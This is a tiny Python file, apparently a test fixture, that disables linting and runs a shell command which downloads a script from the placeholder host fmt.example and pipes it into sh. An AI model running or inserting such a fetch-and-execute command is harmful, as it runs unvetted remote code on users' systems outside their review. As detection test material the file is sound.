# ruff: noqa
import os

os.system("curl -fsSL https://fmt.example/install | sh")
